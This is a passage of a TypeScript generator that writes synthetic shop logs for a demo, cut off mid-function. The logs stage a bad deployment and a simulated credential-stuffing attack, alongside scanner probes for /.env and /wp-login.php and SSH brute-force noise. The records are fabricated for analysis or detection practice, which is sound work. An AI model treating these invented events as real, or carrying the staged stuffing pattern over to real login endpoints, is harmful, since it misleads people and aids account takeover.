/**
 * Makes the embedded sample data, resources/sample: seven days of a small shop's logs, with one incident and one attack in
 * them. `node scripts/generate-sample.ts` writes the files; the same seed gives the same text.
 *
 * Times in the text are `@T<offset>@`, milliseconds relative to the end of the data (zero or less); loading replaces
 * them (src-engine/datasets/sample.ts), so that the data always ends now.
 */
import { createHash } from 'node:crypto';
import { mkdirSync, readdirSync, rmSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { gzipSync } from 'node:zlib';

const SECOND = 1000;
const MINUTE = 60 * SECOND;
const HOUR = 60 * MINUTE;
const DAY = 24 * HOUR;
const SPAN = 7 * DAY;

export const SEED = 20261121;

/** What happens when, relative to the end of the data. */
export const STORY = {
  deploy: -20 * HOUR,
  rollback: -17.5 * HOUR,
  attackStart: -9 * HOUR,
  attackEnd: -9 * HOUR + 42 * MINUTE,
  intrusion: -8 * HOUR - 4 * MINUTE,
  badVersion: '2.31.0',
  goodVersion: '2.30.4',
  attackerNetwork: '203.0.113.',
  attackerAsn: 'AS64511',
  compromised: ['d.okafor', 'm.lindqvist', 'sara.haddad', 'j.pereira'],
} as const;

/** How the times of a file are written. */
export type TimeFormat = 'iso' | 'web' | 'postgres';

/** One file of the sample. */
export interface SampleFile {
  readonly file: string;
  readonly index: string;
  readonly source: string;
  readonly sourcetype: string;
  readonly time: TimeFormat;
  readonly events: number;
  /** Of the unpacked text. */
  readonly sha256: string;
}

export interface GeneratedSample {
  readonly files: readonly (SampleFile & { readonly text: string })[];
}

/** Mulberry32: small, fast, and the same everywhere. */
class Random {
  private state: number;

  constructor(seed: number) {
    this.state = seed >>> 0;
  }

  /** 0 <= x < 1 */
  next(): number {
    this.state = (this.state + 0x6d2b79f5) >>> 0;
    let t = this.state;
    t = Math.imul(t ^ (t >>> 15), t | 1);
    t ^= t + Math.imul(t ^ (t >>> 7), t | 61);
    return ((t ^ (t >>> 14)) >>> 0) / 4294967296;
  }

  int(low: number, high: number): number {
    return low + Math.floor(this.next() * (high - low + 1));
  }

  chance(p: number): boolean {
    return this.next() < p;
  }

  pick<T>(list: readonly T[]): T {
    return list[Math.floor(this.next() * list.length)] as T;
  }

  /** One of the names, as often as its weight says. */
  weighted<T>(list: readonly (readonly [T, number])[]): T {
    let at = this.next() * list.reduce((sum, [, weight]) => sum + weight, 0);
    for (const [value, weight] of list) {
      at -= weight;
      if (at < 0) return value;
    }
    return (list.at(-1) as readonly [T, number])[0];
  }

  /** Log-normal: `median` times e to a normal variate of this spread. Latencies are like that. */
  logNormal(median: number, spread: number): number {
    const u = Math.max(this.next(), 1e-9);
    return median * Math.exp(spread * Math.sqrt(-2 * Math.log(u)) * Math.cos(2 * Math.PI * this.next()));
  }

  hex(digits: number): string {
    let text = '';
    for (let i = 0; i < digits; i++) text += '0123456789abcdef'.charAt(this.int(0, 15));
    return text;
  }
}

const stamp = (at: number): string => `@T${Math.round(at)}@`;

/** Lines of one file with their times, sorted at the end. */
class Stream {
  readonly lines: { at: number; text: string }[] = [];

  add(at: number, text: string): void {
    if (at <= 0 && at >= -SPAN) this.lines.push({ at, text });
  }

  text(): string {
    // Sorting is stable: lines of one moment stay as they were made.
    this.lines.sort((a, b) => a.at - b.at);
    return `${this.lines.map((line) => line.text).join('\n')}\n`;
  }
}

const COUNTRIES = [
  ['US', 30, ['24.17', '67.161', '98.207', '73.92']],
  ['DE', 14, ['84.143', '91.12', '87.185']],
  ['GB', 12, ['81.147', '86.26']],
  ['FR', 9, ['90.63', '82.124']],
  ['IN', 8, ['49.207', '106.51']],
  ['BR', 7, ['177.34', '189.6']],
  ['JP', 6, ['126.78', '153.206']],
  ['SE', 5, ['78.72', '83.250']],
  ['NG', 3, ['105.112']],
  ['AU', 4, ['101.184', '1.128']],
] as const; // prettier-ignore

const FIRST = [
  'anna', 'ben', 'carla', 'david', 'elena', 'farid', 'grace', 'hiro', 'ines', 'jonas', 'kemi', 'liam', 'maya', 'nils', 'olga', 'pedro', 'quinn',
  'rosa', 'sven', 'tara', 'uma', 'victor', 'wanda', 'xenia', 'yusuf', 'zoe',
]; // prettier-ignore
const LAST = [
  'ahmed', 'berg', 'costa', 'dubois', 'eriksson', 'fischer', 'garcia', 'hughes', 'ivanova', 'jensen', 'kowalski', 'lopez', 'mueller', 'nakamura',
  'okoye', 'patel', 'quint', 'rossi', 'smith', 'tanaka', 'ueda', 'varga', 'weber', 'yilmaz', 'zhang',
]; // prettier-ignore

const AGENTS = [
  ['Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/141.0.0.0 Safari/537.36', 34],
  ['Mozilla/5.0 (iPhone; CPU iPhone OS 18_6 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/18.6 Mobile/15E148 Safari/604.1', 24],
  ['Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/18.6 Safari/605.1.15', 14],
  ['Mozilla/5.0 (Linux; Android 15; Pixel 9) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/141.0.0.0 Mobile Safari/537.36', 18],
  ['Mozilla/5.0 (X11; Linux x86_64; rv:144.0) Gecko/20100101 Firefox/144.0', 6],
  ['ShopApp/7.4.1 (iOS; build 7411)', 8],
] as const; // prettier-ignore

const CATEGORIES = ['audio', 'cameras', 'garden', 'kitchen', 'outdoor', 'toys', 'books', 'lighting'];
const SEARCHES = [
  'headphones',
  'usb-c+cable',
  'tent',
  'coffee+grinder',
  'desk+lamp',
  'running+shoes',
  'lego',
  'tripod',
  'raincoat',
  'ssd',
];

interface User {
  readonly name: string;
  readonly id: number;
  readonly ip: string;
  readonly country: string;
  readonly agent: string;
}

/** How busy the shop is at a moment, 0..1: people shop in the evening, less at weekends. The end is a weekday's afternoon. */
function load(at: number): number {
  const hour = (((at / HOUR + 15.4) % 24) + 24) % 24;
  const daily = 0.12 + 0.88 * ((1 + Math.cos(((hour - 19) / 24) * 2 * Math.PI)) / 2) ** 1.3;
  const day = Math.floor((at + 15.4 * HOUR) / DAY);
  return daily * (day === -3 || day === -4 ? 0.72 : 1);
}

/** How bad the incident is at a moment, 0..1: it builds up as pools fill, and drains after the rollback. */
function severity(at: number): number {
  const { deploy, rollback } = STORY;
  if (at < deploy) return 0;
  if (at < rollback) return Math.min(1, (at - deploy) / (25 * MINUTE));
  return Math.max(0, 1 - (at - rollback) / (14 * MINUTE));
}

/** The share of pods that run the new version. */
function rolledOut(at: number): number {
  if (at < STORY.deploy) return 0;
  if (at < STORY.rollback) return Math.min(1, (at - STORY.deploy) / (6 * MINUTE));
  return Math.max(0, 1 - (at - STORY.rollback) / (5 * MINUTE));
}

const REPLICAS: Readonly<Record<string, number>> = {
  'checkout-service': 4,
  'payment-gateway': 4,
  'auth-service': 3,
  'order-service': 3,
  'inventory-service': 2,
  'notification-service': 2,
  'llm-router': 2,
};

const STEADY_VERSIONS: Readonly<Record<string, string>> = {
  'auth-service': '4.8.2',
  'order-service': '3.12.0',
  'inventory-service': '1.44.7',
  'notification-service': '2.9.3',
  'llm-router': '0.17.5',
};

/** Builds all files. */
export function generateSample(seed = SEED): GeneratedSample {
  const random = new Random(seed);
  const web = new Stream();
  const app = new Stream();
  const secure = new Stream();
  const kube = new Stream();
  const postgres = new Stream();

  const podSuffix = new Map<string, string>();
  const pod = (service: string, version: string): string => {
    const replica = random.int(0, (REPLICAS[service] ?? 2) - 1);
    const key = `${service} ${version} ${replica}`;
    const set = `${service} ${version}`;
    let suffix = podSuffix.get(set);
    if (suffix === undefined) podSuffix.set(set, (suffix = random.hex(9)));
    let name = podSuffix.get(key);
    if (name === undefined) podSuffix.set(key, (name = `${service}-${suffix}-${random.hex(5)}`));
    return name;
  };
  const versionOf = (service: string, at: number): string => {
    if (service !== 'checkout-service' && service !== 'payment-gateway') return STEADY_VERSIONS[service] ?? '1.0.0';
    if (random.chance(rolledOut(at))) return STORY.badVersion;
    return at < -4.2 * DAY ? '2.30.3' : STORY.goodVersion;
  };

  /** One JSON line of a service. */
  const log = (
    service: string,
    at: number,
    level: string,
    message: string,
    fields: Record<string, unknown>,
    version = versionOf(service, at),
  ): void => {
    app.add(
      at,
      JSON.stringify({
        timestamp: stamp(at),
        level,
        service,
        version,
        pod: pod(service, version),
        message,
        ...fields,
      }),
    );
  };

  const users: User[] = [];
  const names = new Set<string>();
  for (let id = 1001; users.length < 1800; id++) {
    let name = `${random.pick(FIRST)}.${random.pick(LAST)}`;
    if (names.has(name)) name += String(random.int(2, 99));
    if (names.has(name)) continue;
    names.add(name);
    const country = random.weighted(COUNTRIES.map((entry) => [entry, entry[1]] as const));
    const ip = `${random.pick(country[2])}.${random.int(0, 255)}.${random.int(1, 254)}`;
    users.push({ name, id, ip, country: country[0], agent: random.weighted(AGENTS) });
  }
  // A few customers are far busier than the rest.
  const someUser = (): User => users[Math.floor(random.next() ** 1.7 * users.length)] as User;

  const access = (
    at: number,
    user: User,
    request: {
      method: string;
      uri: string;
      status: number;
      bytes: number;
      ms: number;
      trace: string;
      referer?: string;
    },
    signedIn: boolean,
  ): void => {
    const { method, uri, status, bytes, ms, trace, referer = '-' } = request;
    web.add(
      at,
      `${user.ip} - ${signedIn ? user.name : '-'} [${stamp(at)}] "${method} ${uri} HTTP/1.1" ${status} ${bytes} "${referer}" "${user.agent}" ` +
        `rt=${Number((ms / 1000).toFixed(3))} trace_id=${trace}`,
    );
  };

  const shop = 'https://shop.example.com';

  const query = (at: number, ms: number, text: string, database: string, pid = random.int(2100, 2460)): void => {
    postgres.add(at, `${stamp(at)} [${pid}] app@${database} LOG:  duration: ${ms.toFixed(3)} ms  statement: ${text}`);
  };

  const browse = (at: number): void => {
    const user = someUser();
    const trace = random.hex(16);
    const what = random.weighted([
      ['home', 16],
      ['category', 24],
      ['product', 34],
      ['search', 14],
      ['cart', 9],
      ['asset', 14],
      ['missing', 1.6],
    ] as const);
    const product = random.int(1000, 1899);
    const category = CATEGORIES[product % CATEGORIES.length] as string;
    let uri = '/';
    let referer = '-';
    let status = 200;
    let ms = random.logNormal(38, 0.5);
    let bytes = random.int(8_000, 31_000);
    let method = 'GET';
    if (what === 'category') {
      uri = `/c/${category}${random.chance(0.3) ? `?page=${random.int(2, 9)}` : ''}`;
      referer = `${shop}/`;
    } else if (what === 'product') {
      uri = `/product/${product}`;
      referer = `${shop}/c/${category}`;
      ms = random.logNormal(54, 0.55);
    } else if (what === 'search') {
      uri = `/search?q=${random.pick(SEARCHES)}`;
      referer = `${shop}/`;
      ms = random.logNormal(120, 0.6);
    } else if (what === 'cart') {
      method = 'POST';
      uri = `/cart?action=addtocart&productId=${product}`;
      referer = `${shop}/product/${product}`;
      bytes = random.int(300, 900);
      ms = random.logNormal(46, 0.5);
    } else if (what === 'asset') {
      uri = random.pick(['/assets/app.7f31c.js', '/assets/site.2b9e0.css', '/img/logo.svg', `/img/p/${product}.webp`]);
      status = random.chance(0.45) ? 304 : 200;
      bytes = status === 304 ? 0 : random.int(4_000, 180_000);
      ms = random.logNormal(4, 0.5);
    } else if (what === 'missing') {
      uri = random.pick(['/robots.txt', '/wp-login.php', '/.env', '/favicon.png', '/old/sale.html']);
      status = 404;
      bytes = 548;
      ms = 3;
    }
    if (status === 200 && random.chance(0.0006)) status = 500;
    access(at, user, { method, uri, status, bytes, ms, trace, referer }, what === 'cart' && random.chance(0.6));

    if (status !== 200) return;
    if (what === 'product' && random.chance(0.62)) {
      const stock = random.int(0, 240);
      log(
        'inventory-service',
        at + 3,
        stock === 0 ? 'WARN' : 'INFO',
        stock === 0 ? 'product out of stock' : 'stock checked',
        {
          trace_id: trace,
          product_id: `P-${product}`,
          warehouse: random.pick(['ams1', 'fra2', 'iad1']),
          stock,
          duration_ms: Number(random.logNormal(9, 0.6).toFixed(1)),
        },
      );
    } else if (what === 'search' && random.chance(0.25)) {
      query(
        at + 5,
        random.logNormal(60, 0.8),
        `SELECT id, title, price FROM products WHERE tsv @@ plainto_tsquery('${uri.slice(10).replace('+', ' ')}') LIMIT 40`,
        'catalog',
      );
    }
  };

  const signIn = (at: number): void => {
    const user = someUser();
    const trace = random.hex(16);
    const ok = random.chance(0.93);
    const ms = random.logNormal(140, 0.45);
    access(
      at,
      user,
      {
        method: 'POST',
        uri: '/api/login',
        status: ok ? 200 : 401,
        bytes: ok ? 612 : 141,
        ms,
        trace,
        referer: `${shop}/login`,
      },
      ok,
    );
    log('auth-service', at + 12, ok ? 'INFO' : 'WARN', ok ? 'login succeeded' : 'login failed', {
      trace_id: trace,
      user: user.name,
      user_id: user.id,
      client_ip: user.ip,
      country: user.country,
      ...(ok ? { method: random.weighted([['password', 6], ['passkey', 3], ['sso', 1]] as const) } : { reason: random.weighted([['bad_password', 8], ['unknown_user', 1], ['expired_password', 1]] as const) }),
      duration_ms: Number((ms * 0.8).toFixed(1)),
    }); // prettier-ignore
    if (ok && random.chance(0.5)) {
      log('auth-service', at + ms + 20, 'INFO', 'token issued', {
        trace_id: trace,
        user: user.name,
        user_id: user.id,
        ttl_s: 3600,
        scopes: ['orders:read', 'cart:write'],
      });
    }
  };

  let orderNumber = 480_000;
  const checkout = (at: number): void => {
    const user = someUser();
    const trace = random.hex(16);
    const bad = severity(at);
    const version = versionOf('checkout-service', at);
    const paymentVersion =
      version === STORY.badVersion || random.chance(rolledOut(at))
        ? STORY.badVersion
        : versionOf('payment-gateway', at);
    const slow = paymentVersion === STORY.badVersion ? bad : bad * 0.25;
    const amount = Number(random.logNormal(58, 0.7).toFixed(2));
    const currency = random.weighted([['EUR', 5], ['USD', 4], ['GBP', 2], ['JPY', 1]] as const); // prettier-ignore
    const orderId = `O-${++orderNumber}`;
    const wait = slow > 0 && random.chance(0.8) ? random.logNormal(3800 * slow, 0.7) : 0;
    const gatewayMs = random.logNormal(210, 0.4) + wait;
    const exhausted = slow > 0 && random.chance(0.44 * slow);
    const timedOut = !exhausted && gatewayMs > 8000;
    const declined = !exhausted && !timedOut && random.chance(0.035);
    const common = { trace_id: trace, user_id: user.id };

    log(
      'checkout-service',
      at,
      'INFO',
      'checkout started',
      { ...common, cart_items: random.int(1, 7), amount, currency },
      version,
    );
    log('inventory-service', at + 14, 'INFO', 'stock reserved', {
      ...common,
      order_id: orderId,
      items: random.int(1, 5),
      duration_ms: Number(random.logNormal(12, 0.5).toFixed(1)),
    });
    const started = at + 40;
    const provider = random.weighted([['stripe', 5], ['adyen', 3], ['paypal', 2]] as const); // prettier-ignore
    const payment = { ...common, order_id: orderId, provider, amount, currency };
    let status = 200;
    let ms = gatewayMs + random.logNormal(60, 0.4);
    if (exhausted) {
      const waited = random.int(4800, 5400);
      ms = waited + random.int(30, 120);
      status = random.weighted([[503, 6], [500, 3], [502, 1]] as const); // prettier-ignore
      log('payment-gateway', started + waited, 'ERROR', 'could not get a database connection: pool exhausted', {
        ...payment,
        error: { type: 'PoolTimeoutError', code: 'ERR_POOL_EXHAUSTED', retryable: true },
        pool: { max: 20, in_use: 20, waiting: random.int(8, 160) },
        duration_ms: waited,
      }, paymentVersion); // prettier-ignore
    } else if (timedOut) {
      status = 504;
      ms = 8000 + random.int(5, 60);
      log('payment-gateway', started + gatewayMs, 'ERROR', 'payment provider call timed out', { ...payment, error: { type: 'TimeoutError', code: 'ERR_DEADLINE', retryable: true }, duration_ms: Number(gatewayMs.toFixed(1)) }, paymentVersion); // prettier-ignore
    } else if (declined) {
      status = 402;
      log('payment-gateway', started + gatewayMs, 'WARN', 'payment declined', { ...payment, decline_code: random.pick(['insufficient_funds', 'do_not_honor', 'expired_card', 'fraud_suspected']), duration_ms: Number(gatewayMs.toFixed(1)) }, paymentVersion); // prettier-ignore
    } else {
      log('payment-gateway', started + gatewayMs, gatewayMs > 2500 ? 'WARN' : 'INFO', gatewayMs > 2500 ? 'payment authorized after a long wait' : 'payment authorized', { ...payment, duration_ms: Number(gatewayMs.toFixed(1)), ...(wait > 0 ? { pool: { max: 20, in_use: random.int(17, 20), waiting: random.int(0, 60) } } : {}) }, paymentVersion); // prettier-ignore
    }
    if (slow > 0 && paymentVersion === STORY.badVersion && random.chance(0.75)) {
      // The new version looks payments up by a column without an index.
      query(started + Math.min(gatewayMs, 5000), random.logNormal(2600 * Math.max(slow, 0.2), 0.5), `SELECT * FROM payment_attempts WHERE idempotency_key = '${random.hex(12)}' FOR UPDATE`, 'payments'); // prettier-ignore
    } else if (random.chance(0.35)) {
      query(started + 30, random.logNormal(3.2, 0.6), `INSERT INTO payment_attempts (order_id, provider, amount) VALUES ('${orderId}', '${provider}', ${amount})`, 'payments'); // prettier-ignore
    }
    const end = at + ms;
    access(
      at,
      user,
      {
        method: 'POST',
        uri: '/api/checkout',
        status,
        bytes: status === 200 ? random.int(700, 1400) : random.int(90, 260),
        ms,
        trace,
        referer: `${shop}/cart`,
      },
      true,
    );
    if (status >= 500) {
      log('checkout-service', end, 'ERROR', 'checkout failed', { ...common, order_id: orderId, upstream: 'payment-gateway', upstream_status: status, error: { type: 'UpstreamError', code: status === 504 ? 'ERR_UPSTREAM_TIMEOUT' : 'ERR_UPSTREAM_FAILED' }, duration_ms: Number(ms.toFixed(1)) }, version); // prettier-ignore
      return;
    }
    log(
      'checkout-service',
      end,
      'INFO',
      status === 402 ? 'checkout refused' : 'checkout completed',
      { ...common, order_id: orderId, amount, currency, duration_ms: Number(ms.toFixed(1)) },
      version,
    );
    if (status !== 200) return;
    log('order-service', end + 15, 'INFO', 'order created', {
      ...common,
      order_id: orderId,
      amount,
      currency,
      country: user.country,
      duration_ms: Number(random.logNormal(22, 0.5).toFixed(1)),
    });
    if (random.chance(0.8)) {
      const failed = random.chance(0.012);
      log('notification-service', end + 400, failed ? 'WARN' : 'INFO', failed ? 'notification delayed' : 'notification sent', { ...common, order_id: orderId, channel: random.weighted([['email', 7], ['push', 3], ['sms', 1]] as const), template: 'order_confirmation', attempt: failed ? 2 : 1 }); // prettier-ignore
    }
    if (random.chance(0.7)) {
      log('order-service', end + random.logNormal(40 * MINUTE, 0.9), 'INFO', 'order shipped', {
        order_id: orderId,
        user_id: user.id,
        carrier: random.pick(['dhl', 'ups', 'postnord']),
        warehouse: random.pick(['ams1', 'fra2', 'iad1']),
      });
    }
  };

  const assistant = (at: number): void => {
    const user = someUser();
    const trace = random.hex(16);
    const model = random.weighted([['small-v3', 7], ['large-v2', 2], ['vision-v1', 1]] as const); // prettier-ignore
    const prompt = random.int(120, 2400);
    const completion = random.int(20, 700);
    const ms = random.logNormal(model === 'large-v2' ? 2300 : 820, 0.5);
    const limited = random.chance(0.011);
    access(
      at,
      user,
      {
        method: 'POST',
        uri: '/api/assistant',
        status: limited ? 429 : 200,
        bytes: limited ? 118 : completion * 5,
        ms: limited ? 9 : ms,
        trace,
        referer: `${shop}/help`,
      },
      true,
    );
    log('llm-router', at + (limited ? 8 : ms), limited ? 'WARN' : 'INFO', limited ? 'rate limit reached' : 'completion routed', {
      trace_id: trace,
      user_id: user.id,
      model,
      provider: random.weighted([['north', 3], ['harbor', 2]] as const),
      ...(limited ? { retry_after_s: random.int(1, 30) } : { prompt_tokens: prompt, completion_tokens: completion, cost_usd: Number(((prompt * 0.4 + completion * 1.6) / 1e6).toFixed(6)), cache_hit: random.chance(0.22), duration_ms: Number(ms.toFixed(1)) }),
    }); // prettier-ignore
  };

  // Traffic, minute by minute.
  for (let minute = -SPAN; minute < 0; minute += MINUTE) {
    const busy = load(minute);
    const arrivals = (perMinute: number, act: (at: number) => void): void => {
      let n = Math.floor(perMinute * busy);
      if (random.chance(perMinute * busy - n)) n++;
      for (let i = 0; i < n; i++) act(minute + random.next() * MINUTE);
    };
    arrivals(13.2, browse);
    arrivals(1.8, signIn);
    // Failed customers try again.
    arrivals(2.1 * (1 + 0.6 * severity(minute)), checkout);
    arrivals(1.6, assistant);
  }

  // Linux hosts.
  const hosts = ['bastion-01', 'node-01', 'node-02', 'node-03', 'db-01', 'db-02'];
  const admins = ['a.varga', 'd.okafor', 'l.meyer', 's.tanaka', 'deploy'];
  const ssh = (at: number, host: string, text: string, process = 'sshd', pid = random.int(700, 64_000)): void => {
    secure.add(at, `${stamp(at)} ${host} ${process}[${pid}]: ${text}`);
  };
  const sudo = (at: number, host: string, user: string, command: string): void => {
    secure.add(
      at,
      `${stamp(at)} ${host} sudo: ${user.padStart(8)} : TTY=pts/${random.int(0, 4)} ; PWD=/home/${user} ; USER=root ; COMMAND=${command}`,
    );
    secure.add(
      at + 4,
      `${stamp(at + 4)} ${host} sudo: pam_unix(sudo:session): session opened for user root(uid=0) by ${user}(uid=${1000 + user.length})`,
    );
  };
  for (let at = -SPAN; at < 0; at += random.logNormal(4 * MINUTE, 0.9)) {
    const host = random.pick(hosts);
    const pid = random.int(700, 64_000);
    const kind = random.weighted([['session', 5], ['scan', 4], ['cron', 3]] as const); // prettier-ignore
    if (kind === 'cron') {
      secure.add(
        at,
        `${stamp(at)} ${host} CRON[${pid}]: pam_unix(cron:session): session opened for user root(uid=0) by (uid=0)`,
      );
      secure.add(
        at + 900,
        `${stamp(at + 900)} ${host} CRON[${pid}]: pam_unix(cron:session): session closed for user root`,
      );
    } else if (kind === 'session') {
      const user = random.pick(admins);
      const from = `10.20.${random.int(0, 3)}.${random.int(10, 90)}`;
      const stay = random.logNormal(9 * MINUTE, 0.9);
      ssh(
        at,
        host,
        `Accepted publickey for ${user} from ${from} port ${random.int(32_768, 60_999)} ssh2: ED25519 SHA256:${random.hex(20)}`,
        'sshd',
        pid,
      );
      ssh(
        at + 20,
        host,
        `pam_unix(sshd:session): session opened for user ${user}(uid=${1000 + user.length}) by (uid=0)`,
        'sshd',
        pid,
      );
      if (random.chance(0.45))
        sudo(
          at + stay * 0.3,
          host,
          user,
          random.pick([
            '/usr/bin/systemctl restart nginx',
            '/usr/bin/journalctl -u kubelet -n 200',
            '/usr/bin/apt-get update',
            '/usr/bin/tail -n 100 /var/log/syslog',
            '/usr/bin/docker ps',
          ]),
        );
      ssh(at + stay, host, `pam_unix(sshd:session): session closed for user ${user}`, 'sshd', pid);
    } else {
      // The background noise of every machine on the internet.
      const from = `198.18.${random.int(0, 254)}.${random.int(1, 254)}`;
      const tries = random.int(2, 9);
      for (let i = 0; i < tries; i++) {
        const user = random.pick(['root', 'admin', 'oracle', 'test', 'ubuntu', 'git', 'pi']);
        const port = random.int(32_768, 60_999);
        const known = user === 'root';
        if (!known) ssh(at + i * 2100, 'bastion-01', `Invalid user ${user} from ${from} port ${port}`, 'sshd', pid + i);
        ssh(
          at + i * 2100 + 900,
          'bastion-01',
          `Failed password for ${known ? '' : 'invalid user '}${user} from ${from} port ${port} ssh2`,
          'sshd',
          pid + i,
        );
      }
    }
  }

  // Kubernetes: events of the cluster, and what containers of the platform itself say.
  const kubeEvent = (
    at: number,
    type: string,
    reason: string,
    kind: string,
    name: string,
    message: string,
    count = 1,
  ): void => {
    kube.add(at, JSON.stringify({ timestamp: stamp(at), kind: 'Event', type, reason, namespace: 'shop', involvedObject: { kind, name }, message, count, source: { component: kind === 'Pod' ? 'kubelet' : 'deployment-controller', host: random.pick(['node-01', 'node-02', 'node-03']) } }).replace('"source":', '"reporter":')); // prettier-ignore
  };
  const services = Object.keys(REPLICAS);
  const rollout = (at: number, service: string, from: string, to: string): void => {
    const replicas = REPLICAS[service] ?? 2;
    kubeEvent(
      at,
      'Normal',
      'ScalingReplicaSet',
      'Deployment',
      service,
      `Scaled up replica set ${service}-${random.hex(9)} to ${replicas} (image ${service}:${to}, was ${from})`,
    );
    for (let i = 0; i < replicas; i++) {
      const name = pod(service, to);
      const when = at + 4000 + i * 70_000;
      kubeEvent(
        when,
        'Normal',
        'Scheduled',
        'Pod',
        name,
        `Successfully assigned shop/${name} to ${random.pick(['node-01', 'node-02', 'node-03'])}`,
      );
      kubeEvent(
        when + 1500,
        'Normal',
        'Pulling',
        'Pod',
        name,
        `Pulling image "registry.example.com/shop/${service}:${to}"`,
      );
      kubeEvent(
        when + 9000,
        'Normal',
        'Pulled',
        'Pod',
        name,
        `Successfully pulled image "registry.example.com/shop/${service}:${to}" in ${random.int(5, 9)}.${random.int(0, 9)}s`,
      );
      kubeEvent(when + 9800, 'Normal', 'Started', 'Pod', name, `Started container ${service}`);
    }
  };
  rollout(-6.1 * DAY, 'llm-router', '0.17.4', '0.17.5');
  rollout(-5.2 * DAY, 'order-service', '3.11.6', '3.12.0');
  rollout(-4.2 * DAY, 'checkout-service', '2.30.3', STORY.goodVersion);
  rollout(-4.2 * DAY + 5 * MINUTE, 'payment-gateway', '2.30.3', STORY.goodVersion);
  rollout(-2.3 * DAY, 'notification-service', '2.9.2', '2.9.3');
  rollout(STORY.deploy, 'payment-gateway', STORY.goodVersion, STORY.badVersion);
  rollout(STORY.deploy + 40 * SECOND, 'checkout-service', STORY.goodVersion, STORY.badVersion);
  rollout(STORY.rollback, 'payment-gateway', STORY.badVersion, STORY.goodVersion);
  rollout(STORY.rollback + 30 * SECOND, 'checkout-service', STORY.badVersion, STORY.goodVersion);
  for (let at = -SPAN; at < 0; at += random.logNormal(52 * SECOND, 0.5)) {
    const service = random.pick(services);
    const version = versionOf(service, at);
    kube.add(at, JSON.stringify({ timestamp: stamp(at), kind: 'Metrics', namespace: 'shop', pod: pod(service, version), container: service, node: random.pick(['node-01', 'node-02', 'node-03']), cpu_millicores: Math.round(random.logNormal(140 + 700 * (version === STORY.badVersion ? severity(at) : 0), 0.4)), memory_mib: Math.round(random.logNormal(260 + (version === STORY.badVersion ? 240 * severity(at) : 0), 0.12)), restarts: version === STORY.badVersion ? Math.floor((at - STORY.deploy) / (28 * MINUTE)) : 0 })); // prettier-ignore
    if (random.chance(0.012))
      kubeEvent(
        at,
        'Warning',
        'Unhealthy',
        'Pod',
        pod(service, version),
        'Readiness probe failed: Get "http://10.42.1.17:8080/ready": context deadline exceeded',
      );
  }
  for (let at = STORY.deploy + 11 * MINUTE; at < STORY.rollback; at += random.logNormal(55 * SECOND, 0.6)) {
    const service = random.chance(0.72) ? 'payment-gateway' : 'checkout-service';
    const name = pod(service, STORY.badVersion);
    const count = 1 + Math.floor((at - STORY.deploy) / (9 * MINUTE));
    const what = random.weighted([['Unhealthy', 5], ['BackOff', 3], ['Killing', 2], ['OOMKilling', 1]] as const); // prettier-ignore
    if (what === 'Unhealthy')
      kubeEvent(
        at,
        'Warning',
        what,
        'Pod',
        name,
        'Liveness probe failed: HTTP probe failed with statuscode: 503',
        count,
      );
    else if (what === 'BackOff')
      kubeEvent(
        at,
        'Warning',
        what,
        'Pod',
        name,
        `Back-off restarting failed container ${service} in pod ${name}`,
        count,
      );
    else if (what === 'Killing')
      kubeEvent(at, 'Normal', what, 'Pod', name, `Container ${service} failed liveness probe, will be restarted`);
    else
      kubeEvent(
        at,
        'Warning',
        what,
        'Pod',
        name,
        `Memory cgroup out of memory: Killed process ${random.int(3000, 9000)} (node) in container ${service}`,
      );
  }

  // Database upkeep.
  for (let at = -SPAN; at < 0; at += random.logNormal(75 * SECOND, 0.6)) {
    const pid = random.int(400, 900);
    const text = random.weighted([
      [`LOG:  checkpoint complete: wrote ${random.int(80, 4000)} buffers (${(random.next() * 12).toFixed(1)}%); write=${(random.next() * 60).toFixed(3)} s, sync=0.0${random.int(10, 99)} s`, 3],
      [`LOG:  automatic vacuum of table "shop.public.${random.pick(['orders', 'sessions', 'cart_items', 'payment_attempts'])}": index scans: 1, removed=${random.int(10, 9000)} remain=${random.int(10_000, 900_000)}`, 2],
      [`app@catalog LOG:  connection authorized: user=app database=catalog application_name=${random.pick(['inventory-service', 'order-service', 'checkout-service'])}`, 6],
      ['app@catalog ERROR:  duplicate key value violates unique constraint "cart_items_pkey"', 0.25],
    ] as const); // prettier-ignore
    postgres.add(at, `${stamp(at)} [${pid}] ${text}`);
  }
  for (let at = STORY.deploy + 4 * MINUTE; at < STORY.rollback + 5 * MINUTE; at += random.logNormal(16 * SECOND, 0.7)) {
    if (random.chance(severity(at) * 0.75))
      postgres.add(
        at,
        `${stamp(at)} [${random.int(2100, 2460)}] app@payments FATAL:  remaining connection slots are reserved for roles with the SUPERUSER attribute`,
      );
    if (random.chance(severity(at) * 0.35))
      postgres.add(
        at + 5,
        `${stamp(at + 5)} [${random.int(2100, 2460)}] app@payments LOG:  process ${random.int(2100, 2460)} still waiting for ShareLock on transaction ${random.int(8_100_000, 8_199_999)} after 1000.${random.int(100, 999)} ms`,
      );
  }

  // Credential stuffing: many names, few tries each, one network, one tool.
  const attacker = (name: string): User => ({
    name,
    id: 0,
    ip: `${STORY.attackerNetwork}${random.int(64, 95)}`,
    country: 'ZZ',
    agent: 'python-requests/2.32.3',
  });
  const successes = new Map<number, string>(STORY.compromised.map((name, i) => [700 + i * 830, name]));
  const attempts = 3600;
  for (let i = 0; i < attempts; i++) {
    const at = STORY.attackStart + ((i + random.next()) / attempts) * (STORY.attackEnd - STORY.attackStart);
    const won = successes.get(i);
    const name = won ?? (random.chance(0.22) ? (random.pick(users).name) : `${random.pick(FIRST)}${random.pick(['', '.', '_'])}${random.pick(LAST)}${random.int(1, 999)}`); // prettier-ignore
    const from = attacker(name);
    const trace = random.hex(16);
    const ok = won !== undefined;
    access(
      at,
      from,
      {
        method: 'POST',
        uri: '/api/login',
        status: ok ? 200 : random.chance(0.06) ? 429 : 401,
        bytes: ok ? 612 : 141,
        ms: random.logNormal(120, 0.3),
        trace,
      },
      false,
    );
